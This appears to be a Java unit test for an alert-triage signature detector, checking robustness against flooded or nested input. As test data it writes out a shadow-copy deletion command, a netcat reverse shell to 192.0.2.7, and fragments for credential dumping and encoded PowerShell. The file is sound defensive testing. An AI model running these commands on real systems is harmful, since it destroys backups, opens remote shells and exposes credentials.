package dev.analystcopilot.triage.sign;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;

import java.time.Duration;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class HostileBodyTest {
    private static final int LENGTH = 100_000;

    private final Signs signs = Signs.load();

    @ParameterizedTest
    @MethodSource("hostile")
    void noTextTakesLong(String text) {
        var alert = Bodies.command("C:\\Windows\\System32\\cmd.exe", text);
        signs.of(alert);

        assertTimeout(Duration.ofMillis(1_500), () -> signs.of(alert));
    }

    @Test
    void whatStandsBehindAFloodIsStillSeen() {
        var alert = Bodies.command("cmd.exe", "a ".repeat(LENGTH) + "vssadmin delete shadows /all");

        assertThat(signs.of(alert)).contains("shadow-copy-deletion");
    }

    @Test
    void deepNestingIsReadOver() {
        var alert = Bodies.alert("deep", "{\"a\":".repeat(300) + "1" + "}".repeat(300));

        assertThat(signs.of(alert)).isEmpty();
    }

    @Test
    void aRecordCutOffIsReadAsFarAsItGoes() {
        var alert = Bodies.alert("cut", "{\"full_log\":\"nc -e /bin/sh 192.0.2.7 4444\",\"data\":{\"x\"");

        assertThat(signs.of(alert)).contains("reverse-shell");
    }

    static Stream<String> hostile() {
        return Stream.of(
                        "a",
                        " ",
                        "\\",
                        "\\\"",
                        "'+'",
                        "whoami",
                        "net user ",
                        "(((((",
                        "powershell -e ",
                        "schtasks /create ",
                        "copy \\\\a\\",
                        "sudo: find ",
                        "../",
                        "curl http://a ",
                        "QUJD",
                        "[char]65+",
                        "reg add hklm ",
                        "certutil procdump lsass mkfifo python -c ")
                .map(piece -> piece.repeat(LENGTH / piece.length()));
    }
}
